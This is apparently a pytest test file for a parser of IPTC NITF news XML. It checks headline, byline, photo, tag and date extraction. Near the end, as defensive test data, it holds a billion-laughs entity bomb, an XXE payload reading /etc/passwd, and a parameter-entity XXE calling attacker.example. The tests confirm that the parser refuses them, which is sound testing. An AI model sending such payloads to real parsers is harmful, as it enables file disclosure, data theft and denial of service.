"""IPTC NITF: bytes in, a ParsedStory (or a ParseError naming the reason) out.

Expected texts are read from the IPTC samples with ElementTree here, so no sample
text is copied into the project.
"""

import re
import xml.etree.ElementTree as ET
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from articles.interchange.data import ParsedByline, ParsedPhoto, ParseError
from articles.interchange.nitf import NITF_NAMESPACE, parse_nitf
from articles.interchange.xmlsafe import parse_timestamp

NAR = "{http://iptc.org/std/nar/2006-10-01/}"
NITF = "{" + NITF_NAMESPACE + "}"


def words(text: str | None) -> str:
    """Collapse XML whitespace, as the parser does."""
    return re.sub(r"[ \t\r\n]+", " ", text or "").strip()


def all_text(element: ET.Element) -> str:
    return words("".join(element.itertext()))


@pytest.fixture
def ntb_path(shared_samples: Path) -> Path:
    return shared_samples / "iptc" / "nitf" / "examples" / "NTB_nitf_sample.xml"


@pytest.fixture
def ntb(ntb_path: Path) -> ET.Element:
    return ET.parse(ntb_path).getroot()


@pytest.fixture
def listing_25_nitf(shared_samples: Path) -> bytes:
    """Give the namespaced <nitf> that IPTC listing 25 carries in inlineXML."""
    path = shared_samples / "iptc" / "newsml-g2" / "examples"
    path /= "LISTING_25_An_NITF_marked-up_article_conveyed_in_inlineXML.xml"
    inline = ET.parse(path).getroot().find(f"{NAR}inlineXML")
    if inline is None:  # the fragment declares no namespace of its own
        inline = ET.parse(path).getroot().find("inlineXML")
    return ET.tostring(inline.find(f"{NITF}nitf"), encoding="utf-8")


def test_ntb_sample_gives_headline_dateline_agency_language_and_identity(ntb_path, ntb):
    """The real NTB file (no namespace) fills every slot it has."""
    story = parse_nitf(ntb_path.read_bytes())

    assert story.headline == all_text(ntb.find("body/body.head/hedline/hl1"))
    assert story.dateline == all_text(ntb.find("body/body.head/dateline"))
    assert story.source_ref == ntb.find("head/docdata/doc-id").get("id-string")
    assert story.language == ntb.get("baselang") == "nb-NO"
    assert story.published_at == datetime(2021, 5, 16, 9, 0, 4)
    assert story.format == "nitf"
    assert story.text == ntb_path.read_text(encoding="utf-8")


def test_ntb_byline_of_agencies_is_the_agency_credit_not_a_person(ntb_path, ntb):
    """ "NTB-AFP-DPA" names agencies: it is the story's credit, and nobody's byline."""
    story = parse_nitf(ntb_path.read_bytes())

    assert story.agency == all_text(ntb.find("body/body.head/byline"))
    assert story.bylines == []


def test_every_paragraph_and_subhead_of_the_ntb_body_comes_through_in_order(
    ntb_path, ntb
):
    """Each <p> and <hl2> of body.content is one paragraph, in file order."""
    content = ntb.find("body/body.content")
    expected = [all_text(el) for el in content if el.tag in {"p", "hl2"}]

    story = parse_nitf(ntb_path.read_bytes())

    assert len(expected) > 20
    assert story.paragraphs == expected


def test_ntb_photo_keeps_its_caption_and_the_trailing_credit_becomes_the_credit(
    ntb_path, ntb
):
    """ "… New Delhi. Foto: A / AP / NTB" splits into caption and credit, no loss."""
    media = ntb.find("body/body.content/media")
    caption = all_text(media.find("media-caption"))

    story = parse_nitf(ntb_path.read_bytes())

    [photo] = story.photos
    assert f"{photo.caption} Foto: {photo.credit}" == caption
    assert photo.credit.endswith("/ AP / NTB")
    assert photo.href == media.find("media-reference").get("source")


def test_ntb_keywords_and_subjects_become_tags(ntb_path, ntb):
    story = parse_nitf(ntb_path.read_bytes())

    key = ntb.find("head/docdata/key-list/keyword").get("key")
    subject = ntb.find("head/tobject/tobject.subject").get("tobject.subject.matter")
    assert story.tags[:2] == [key, subject]


def test_ntb_tagline_at_the_end_is_kept_for_the_editor(ntb_path, ntb):
    """Text outside headline and body (the reporters' addresses) goes to leftovers."""
    story = parse_nitf(ntb_path.read_bytes())

    assert story.leftovers == [all_text(ntb.find("body/body.end/tagline"))]


def test_namespaced_nitf_of_iptc_listing_25_parses(listing_25_nitf):
    """NITF in the 2006-10-18 namespace reads as plain NITF; a lone byttl credits."""
    root = ET.fromstring(listing_25_nitf)
    head = root.find(f"{NITF}body/{NITF}body.head")

    story = parse_nitf(listing_25_nitf)

    assert story.headline == all_text(head.find(f"{NITF}hedline/{NITF}hl1"))
    assert story.standfirst == all_text(head.find(f"{NITF}abstract"))
    assert story.paragraphs == [
        all_text(p) for p in root.iter(f"{NITF}p") if p not in head.iter()
    ]
    assert story.agency == all_text(head.find(f"{NITF}byline/{NITF}byttl"))
    assert story.bylines == []
    assert story.source_ref == ""  # no doc-id: the import uses its own reference


SYNTHETIC = """<?xml version="1.0" encoding="UTF-8"?>
<nitf {xmlns} xml:lang="en-GB">
  <head>
    <title>Title line</title>
    <docdata>
      <doc-id regsrc="EX" id-string="EX-2024-0001"/>
      <date.issue norm="20240517T145000+0200"/>
      <doc.copyright holder="Example Wire"/>
      <ed-msg info="Embargoed until noon"/>
      <key-list><keyword key="harbour"/><keyword key="Harbour"/></key-list>
      <identified-content>
        <classifier>Shipping</classifier><location>Rotterdam</location>
      </identified-content>
    </docdata>
  </head>
  <body>
    <body.head>
      <hedline><hl1>Harbour <em>reopens</em> after storm</hl1>
        <hl2>Ships queue at the mouth of the river</hl2></hedline>
      <byline>By <person>Ann Lee</person> and <person>Bo Chan</person>,
        <byttl>Staff Reporters</byttl></byline>
      <distributor><org>Example Wire</org></distributor>
      <dateline><location>ROTTERDAM</location>, <story.date norm="20240517">May 17
        </story.date></dateline>
      <abstract><p>The port is open again.</p></abstract>
    </body.head>
    <body.content>
      <p>First <a href="https://example.org">linked</a> words,<br/>then more.</p>
      <block>
        <hl2>Queues</hl2>
        <p>Second paragraph in a block.</p>
        <media media-type="image" id="m1">
          <media-reference source="small.jpg" width="100" height="50"/>
          <media-reference source="large.jpg" width="2000" height="1000"
            alternate-text="Cranes at dawn" copyright="© 2024 Example"/>
          <media-caption>Cranes at dawn.</media-caption>
          <media-producer>Cy Dee/Example</media-producer>
        </media>
      </block>
      <bq><block><p>“We are back,” she said.</p></block><credit>Port chief</credit></bq>
      <ol><li>One</li><li>Two</li></ol>
      <table><tr><th>Ship</th><th>Berth</th></tr><tr><td>Maersk A</td><td>4</td></tr>
      </table>
      <media media-type="video"><media-caption>Storm video</media-caption></media>
      <p>Last paragraph.</p>
    </body.content>
  </body>
</nitf>
"""


@pytest.mark.parametrize(
    "xmlns", ["", f'xmlns="{NITF_NAMESPACE}"'], ids=["plain", "namespaced"]
)
def test_a_full_nitf_fills_every_slot_with_or_without_namespace(xmlns):
    """Body, photos, bylines, dates and tags come out the same either way."""
    story = parse_nitf(SYNTHETIC.format(xmlns=xmlns).encode())

    assert story.headline == "Harbour reopens after storm"
    assert story.standfirst == "The port is open again."
    assert story.paragraphs == [
        "First linked words, then more.",
        "Queues",
        "Second paragraph in a block.",
        "“We are back,” she said.",
        "Port chief",
        "One",
        "Two",
        "Last paragraph.",
    ]
    assert story.photos == [
        ParsedPhoto(
            caption="Cranes at dawn.",
            credit="Cy Dee/Example",
            alt_text="Cranes at dawn",
            copyright="© 2024 Example",
            href="large.jpg",
            source_ref="m1",
        )
    ]
    assert story.bylines == [ParsedByline("Ann Lee"), ParsedByline("Bo Chan")]
    assert story.agency == "Example Wire"
    assert story.dateline == "ROTTERDAM"
    assert story.language == "en-GB"
    assert story.source_ref == "EX-2024-0001"
    assert story.published_at == datetime(
        2024, 5, 17, 14, 50, tzinfo=timezone(timedelta(hours=2))
    )
    assert story.tags == ["harbour", "Shipping", "Rotterdam"]
    assert story.leftovers == [
        "Ships queue at the mouth of the river",
        "Byline title: Staff Reporters",
        "Editor's note: Embargoed until noon",
        "Ship | Berth\nMaersk A | 4",
        "Storm video",
    ]


def test_subheadline_is_the_standfirst_when_there_is_no_abstract():
    data = SYNTHETIC.format(xmlns="").replace(
        "<abstract><p>The port is open again.</p></abstract>", ""
    )

    story = parse_nitf(data.encode())

    assert story.standfirst == "Ships queue at the mouth of the river"
    assert "Ships queue at the mouth of the river" not in story.leftovers


def nitf(body_head: str = "", content: str = "", head: str = "") -> bytes:
    return (
        f"<nitf><head>{head}</head><body><body.head><hedline><hl1>H</hl1></hedline>"
        f"{body_head}</body.head><body.content>{content}</body.content></body></nitf>"
    ).encode()


@pytest.mark.parametrize(
    ("byline", "people", "agency"),
    [
        ("<byline>By Ann Lee</byline>", ["Ann Lee"], ""),
        ("<byline>Reuters</byline>", [], "Reuters"),
        ("<byline>AFP/Reuters</byline>", [], "AFP/Reuters"),
        ("<byline>By JOHN SMITH, AP Writer</byline>", ["JOHN SMITH"], ""),
        ("<byline>Par Jean Dupont</byline>", ["Jean Dupont"], ""),
        ("<byline><byttl>Sports Network</byttl></byline>", [], "Sports Network"),
    ],
)
def test_a_written_byline_is_read_as_people_or_as_an_agency_credit(
    byline, people, agency
):
    story = parse_nitf(nitf(body_head=byline))

    assert [byline.name for byline in story.bylines] == people
    assert story.agency == agency


def test_the_copyright_holder_is_the_agency_when_nothing_else_names_one():
    story = parse_nitf(nitf(head='<docdata><doc.copyright holder="AP"/></docdata>'))

    assert story.agency == "AP"


def test_head_title_stands_in_for_a_missing_hedline():
    data = b"<nitf><head><title>Only a title</title></head><body/></nitf>"

    assert parse_nitf(data).headline == "Only a title"


def test_a_nitf_without_any_headline_is_refused():
    with pytest.raises(ParseError, match="no headline"):
        parse_nitf(
            b"<nitf><body><body.content><p>Text</p></body.content></body></nitf>"
        )


def test_release_time_wins_over_issue_time_as_publication_time():
    """date.release is the earliest the story may go out."""
    story = parse_nitf(
        nitf(
            head='<docdata><date.issue norm="20240101T080000Z"/>'
            '<date.release norm="20240102T120000Z"/></docdata>'
        )
    )

    assert story.published_at == datetime(2024, 1, 2, 12, tzinfo=UTC)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("20050517T145000+0200", datetime(2005, 5, 17, 12, 50, tzinfo=UTC)),
        ("2021-05-16T09:00:04Z", datetime(2021, 5, 16, 9, 0, 4, tzinfo=UTC)),
        ("20210516T090004", datetime(2021, 5, 16, 9, 0, 4)),
        ("not a date", None),
        ("", None),
    ],
)
def test_iso_8601_times_are_read_in_basic_and_extended_form(value, expected):
    """A time without an offset stays naive: the writer applies the site's zone."""
    assert parse_timestamp(value) == expected


def test_the_declared_encoding_is_honoured():
    data = (
        '<?xml version="1.0" encoding="ISO-8859-1"?>'
        "<nitf><body><body.head><hedline><hl1>Café</hl1></hedline></body.head>"
        "</body></nitf>"
    ).encode("latin-1")

    story = parse_nitf(data)

    assert story.headline == "Café"
    assert story.text.startswith('<?xml version="1.0" encoding="ISO-8859-1"?>')


def test_deeply_nested_blocks_are_read_without_exhausting_recursion():
    depth = 100_000
    content = "<block>" * depth + "<p>Deep</p>" + "</block>" * depth

    assert parse_nitf(nitf(content=content)).paragraphs == ["Deep"]


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<nitf><body><body.head><hedline><hl1>&lol3;</hl1></hedline></body.head></body></nitf>
"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<nitf><body><body.head><hedline><hl1>&xxe;</hl1></hedline></body.head></body></nitf>
"""
PARAMETER_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<nitf/>
"""


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (BILLION_LAUGHS, r"declares the entity 'lol'.*billion laughs"),
        (XXE, r"external entity 'xxe' \(file:///etc/passwd\).*XXE"),
        (PARAMETER_XXE, r"external entity 'remote'.*XXE"),
    ],
    ids=["billion-laughs", "xxe", "parameter-entity-xxe"],
)
def test_xml_with_a_dtd_is_refused_with_the_reason(data, reason):
    """No DTD declaration is accepted; the error says what it would have done."""
    with pytest.raises(ParseError, match=reason) as refused:
        parse_nitf(data)

    assert str(refused.value).startswith("refused: the XML has a DTD")


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"<nitf><body></nitf>", "not well-formed XML: mismatched tag"),
        (b"Plain text, not XML", "not well-formed XML"),
        (b"<nitf><body>", "not well-formed XML"),
        (b" \n ", "empty file"),
    ],
)
def test_broken_xml_is_refused(data, reason):
    with pytest.raises(ParseError, match=reason):
        parse_nitf(data)


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"<html><body/></html>", r"not NITF: the root element is <html>"),
        (b'<nitf xmlns="urn:example:other"/>', r"not NITF: <nitf> is in urn:"),
    ],
)
def test_xml_that_is_not_nitf_is_refused(data, reason):
    with pytest.raises(ParseError, match=reason):
        parse_nitf(data)


def test_a_newsml_file_is_not_taken_for_nitf(shared_samples):
    path = shared_samples / "iptc" / "newsml-g2" / "examples"
    data = (path / "LISTING_2_NewsML-G2_Text_Document.xml").read_bytes()

    with pytest.raises(ParseError, match="not NITF: the root element is <newsItem>"):
        parse_nitf(data)
